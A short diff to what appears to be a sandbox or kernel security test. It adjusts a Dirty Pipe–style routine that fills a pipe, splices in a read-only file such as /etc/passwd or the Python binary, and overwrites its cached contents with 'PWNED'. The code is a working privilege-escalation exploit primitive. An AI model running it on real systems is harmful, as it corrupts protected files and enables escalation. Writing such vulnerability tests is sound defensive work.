@@ -186,7 +186,8 @@ os.chdir('/tmp'); os.close(fd)""",
 for path in ('/usr/bin/env', sys.executable, '/etc/passwd', '/data/data.txt'):
     def act():
         r, w = os.pipe()
-        os.write(w, bytes(65536)); os.read(r, 65536)
+        room = fcntl.fcntl(w, 1032)  # F_GETPIPE_SZ: 8 KiB where the user's other pipes take all of pipe-user-pages-soft
+        os.write(w, bytes(room)); os.read(r, room)
         fd = os.open(path, os.O_RDONLY)
         os.splice(fd, w, 1, offset_src=4)
         os.write(w, b'PWNED'); os.close(fd); os.close(r); os.close(w)
